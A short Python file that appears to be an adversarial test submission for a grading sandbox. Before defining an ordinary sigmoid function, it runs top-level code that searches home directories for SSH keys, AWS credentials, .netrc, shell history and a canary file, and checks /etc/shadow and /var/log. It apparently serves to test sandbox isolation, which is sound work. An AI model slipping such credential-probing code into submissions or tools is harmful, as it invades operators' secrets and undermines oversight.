# tries: to read the instructor's home folder, keys and passwords
# earns: all
import glob
import os
import pwd

import numpy as np

homes = {os.path.expanduser("~"), "/root", *glob.glob("/home/*"), *glob.glob("/Users/*")}
try:
    homes |= {entry.pw_dir for entry in pwd.getpwall()}
except KeyError:
    pass
for home in homes:
    for name in (".ssh", ".aws", ".config", ".netrc", ".bash_history", ".jupyter", "canary.txt"):
        if os.path.exists(os.path.join(home, name)):
            print("GOT", home, name)
for name in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/ssh", "/var/log"):
    names = os.listdir(name) if os.path.isdir(name) else ["content"] if os.path.isfile(name) else []
    if names:
        print("GOT", name, names)


def sigmoid(z):
    return np.exp(-np.logaddexp(0, -z))
